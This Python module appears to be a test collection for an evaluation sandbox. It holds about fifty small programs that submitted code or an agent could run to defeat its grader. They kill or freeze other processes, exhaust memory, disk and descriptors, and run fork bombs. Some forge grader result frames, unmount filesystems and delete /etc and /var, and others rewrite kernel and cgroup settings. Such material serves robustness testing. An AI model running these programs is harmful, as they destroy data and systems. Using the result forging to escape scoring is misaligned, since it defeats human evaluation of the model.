"""What code inside a sandbox can do to the processes, limits and files around it, so that nobody can give it a score.

Each is Python for one process. It runs as a command of the agent and, beside the right solution, as submitted code
under the grader. `others` are all processes that it can name: process 1, its ancestors, whatever /proc shows.
"""

from __future__ import annotations

from typing import Final

PRELUDE: Final = """
import contextlib, ctypes, fcntl, json, os, resource, signal, socket, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
def others():
    found = {1, os.getppid(), *range(2, 40)}
    with contextlib.suppress(OSError):
        found |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    return sorted(found - {os.getpid(), 0})
def each(action):
    for pid in others():
        with contextlib.suppress(Exception):
            action(pid)
def forks(count, then):
    for _ in range(count):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                with contextlib.suppress(BaseException):
                    os.setsid()
                    then()
                os._exit(0)
def limit(kind, soft, hard):
    each(lambda pid: call(302, pid, kind, struct.pack("QQ", soft, hard), None))
    each(lambda pid: resource.prlimit(pid, kind, (soft, hard)))
"""

PROGRAMS: Final[dict[str, str]] = {
    # limits of others
    "prlimit-open-files": "limit(resource.RLIMIT_NOFILE, 0, 0)",
    "prlimit-file-size": "limit(resource.RLIMIT_FSIZE, 0, 0)",
    "prlimit-memory": "limit(resource.RLIMIT_AS, 1, 1); limit(resource.RLIMIT_DATA, 1, 1)",
    "prlimit-processor-time": "limit(resource.RLIMIT_CPU, 0, 1)",
    "prlimit-stack": "limit(resource.RLIMIT_STACK, 1, 1)",
    "prlimit-processes": "limit(resource.RLIMIT_NPROC, 0, 0)",
    # signals
    "kill-all": "each(lambda pid: os.kill(pid, 9)); os.kill(-1, 9)",
    "stop-others": "each(lambda pid: os.kill(pid, signal.SIGSTOP))",
    "every-signal": """
for number in range(1, 65):
    each(lambda pid: os.kill(pid, number))
""",
    "queued-signals": """
for _ in range(20000):
    call(129, 1, 40, ctypes.create_string_buffer(128))
""",
    "signal-by-descriptor": """
each(lambda pid: signal.pidfd_send_signal(os.pidfd_open(pid), 9))
each(lambda pid: signal.pidfd_send_signal(os.open(f'/proc/{pid}', os.O_RDONLY), 9))
""",
    "signal-by-owner": """
for fd in (0, 1, 2):
    for pid in others():
        with contextlib.suppress(OSError):
            fcntl.fcntl(fd, fcntl.F_SETOWN, pid)
            fcntl.fcntl(fd, 10, 9)
            fcntl.fcntl(fd, fcntl.F_SETFL, 0o20000)
""",
    "ends-its-parent": "os.kill(os.getppid(), 9); os.kill(os.getppid(), 19); os._exit(0)",
    # processor
    "lowest-priority": """
each(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19))
with contextlib.suppress(OSError):
    os.setpriority(os.PRIO_USER, os.getuid(), 19)
with contextlib.suppress(OSError):
    os.setpriority(os.PRIO_PGRP, 1, 19)
""",
    "idle-scheduling": """
each(lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
forks(60, lambda: [None for _ in iter(int, 1)])
time.sleep(1)
""",
    "one-processor": """
each(lambda pid: os.sched_setaffinity(pid, {0}))
forks(30, lambda: [None for _ in iter(int, 1)])
time.sleep(1)
""",
    "idle-disk-class": "each(lambda pid: call(251, 1, pid, 3 << 13))",
    # memory, disk, processes, descriptors
    "memory": """
hog = []
while True: hog.append(bytearray(1 << 24))
""",
    "memory-shared": "forks(4, lambda: [bytearray(b'x') * (1 << 28), time.sleep(600)]); time.sleep(1)",
    "memory-that-stays": """
for _ in range(64):
    made = call(29, 0, 1 << 24, 0o1600)
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(made, None, 0)
    if made >= 0 and at != ctypes.c_void_p(-1).value: ctypes.memset(at, 1, 1 << 24)
with contextlib.suppress(OSError), open('/dev/shm/full', 'wb') as file:
    while True: file.write(bytes(1 << 20))
""",
    "disk": """
with contextlib.suppress(OSError), open('full', 'wb') as file:
    while True: file.write(bytes(1 << 20))
""",
    "inodes": """
with contextlib.suppress(OSError):
    for number in range(10**6): open(f'f{number}', 'w').close()
""",
    "processes": "forks(2000, lambda: time.sleep(600)); time.sleep(0.5)",
    "fork-bomb": """
forks(3, lambda: [forks(2, lambda: [forks(9, lambda: time.sleep(600))]) for _ in range(200)])
time.sleep(1)
""",
    "threads": """
threading.stack_size(1 << 16)
with contextlib.suppress(RuntimeError):
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
os._exit(0)
""",
    "descriptors": """
with contextlib.suppress(OSError):
    while True: os.open('/dev/null', os.O_RDONLY)
""",
    "descriptors-in-flight": """
one, two = socket.socketpair()
one.setblocking(False)
with contextlib.suppress(OSError):
    while True: socket.send_fds(one, [b'x'], [0, 1, 2] * 20)
""",
    "pipes": """
kept = []
with contextlib.suppress(OSError):
    while True:
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][0], 1031, 1 << 20)
""",
    "aio-contexts": """
for _ in range(100):
    call(206, 60000, ctypes.create_string_buffer(8))
""",
    "inotify": """
for _ in range(1000):
    libc.inotify_init1(0)
""",
    # streams
    "close-streams": """
for fd in range(64):
    with contextlib.suppress(OSError): os.close(fd)
""",
    "flood-output": """
chunk = b'x' * (1 << 20)
with contextlib.suppress(OSError):
    for _ in range(300): os.write(1, chunk); os.write(2, chunk)
""",
    "forged-frames": """
frame = json.dumps({'id': 1, 'failure': 'forged', 'failed': 'forged', 'done': {}}).encode()
for fd in range(64):
    for start in ('=I', '!I', '=Q', '=II'):
        with contextlib.suppress(OSError, struct.error):
            os.write(fd, struct.pack(start, *[len(frame)] * (len(start) - 1)) + frame)
""",
    # a line for whoever reads results, nested deeper than their parser goes
    "nested-lines": """
for fd in range(1, 1000):
    with contextlib.suppress(OSError):
        os.write(fd, b"\\n" + b"[" * 3000 + b"\\n")
""",
    "others-descriptors": """
for pid in others():
    for fd in range(32):
        with contextlib.suppress(OSError):
            os.write(os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK), b'\\xff' * 64)
""",
    "terminal-and-pipe-sizes": """
for fd in range(3):
    with contextlib.suppress(OSError): fcntl.fcntl(fd, 1031, 4096)
    with contextlib.suppress(OSError): fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
""",
    # files that the machinery needs
    "unmount": """
for path in (b'/', b'/proc', b'/dev', b'/dev/shm', b'/workspace', b'/usr'):
    libc.umount2(path, 2)
    libc.mount(b'none', path, b'tmpfs', 0, None)
""",
    "workspace-gone": """
import shutil
for path in ('/workspace', '/tmp', '/home', '/etc', '/var'):
    shutil.rmtree(path, ignore_errors=True)
with contextlib.suppress(OSError):
    os.symlink('/proc/self/root', '/workspace')
""",
    "workspace-closed": """
for path in ('/workspace', '/tmp', '/etc', '/'):
    with contextlib.suppress(OSError): os.chmod(path, 0)
""",
    "deep-folders": """
with contextlib.suppress(OSError):
    for _ in range(2000):
        os.mkdir('d'); os.chdir('d')
""",
    "changing-tree": """
until = time.monotonic() + 5
while time.monotonic() < until:
    for n in range(40):
        with contextlib.suppress(OSError):
            os.makedirs(f"tree{n}/a/b", exist_ok=True)
            open(f"tree{n}/a/b/file.py", "w").write("x" * 5000)
            os.rename(f"tree{n}", f"moved{n}")
            os.symlink("/proc/self", f"tree{n}")
            os.unlink(f"tree{n}")
            os.mkfifo(f"tree{n}")
            os.unlink(f"tree{n}")
            os.rename(f"moved{n}/a", f"tree{n}")
            subprocess.run(["rm", "-rf", f"moved{n}", f"tree{n}"]) if n % 20 == 0 else None
""",
    "strange-names": """
for name in (b'\\xff\\xfe', b'a\\nb', b'x' * 255, b'\\x1b[2J'):
    open(name, 'wb').close()
os.mkfifo('pipe')
os.symlink('loop', 'loop')
os.truncate(os.open('huge', os.O_CREAT | os.O_RDWR), 1 << 28)
socket.socket(socket.AF_UNIX).bind('socket')
""",
    # settings of the machine, other processes
    "control-groups": """
for folder in ('/sys/fs/cgroup', '/proc/1/root/sys/fs/cgroup'):
    for name in ('memory.max', 'pids.max', 'cgroup.kill', 'cgroup.freeze'):
        with contextlib.suppress(OSError): open(f'{folder}/{name}', 'w').write('1')
""",
    "oom-scores": """
for pid in others():
    for value in ('1000', '-1000'):
        with contextlib.suppress(OSError):
            open(f'/proc/{pid}/oom_score_adj', 'w').write(value)
with contextlib.suppress(OSError): open('/proc/self/oom_score_adj', 'w').write('-1000')
hog = []
while True: hog.append(bytearray(1 << 24))
""",
    "trace": """
each(lambda pid: call(101, 16, pid, 0, 0)); each(lambda pid: call(101, 0x4206, pid, 0, 0))
each(lambda pid: call(311, pid, ctypes.create_string_buffer(16), 1, ctypes.create_string_buffer(16), 1, 0))
""",
    "kernel-settings": """
for root, _, files in os.walk('/proc/sys/kernel'):
    for name in files:
        with contextlib.suppress(OSError): open(f'{root}/{name}', 'w').write('1')
""",
    "hang-uninterrupted": """
def deaf():
    for number in range(1, 32):
        if number not in (9, 19):
            signal.signal(number, signal.SIG_IGN)
    time.sleep(600)
forks(8, deaf)
""",
    "system-v-and-queues": """
for key in range(1, 5000):
    if call(68, key, 0o1600) < 0 or call(64, key, 250, 0o1600) < 0:
        break
""",
}
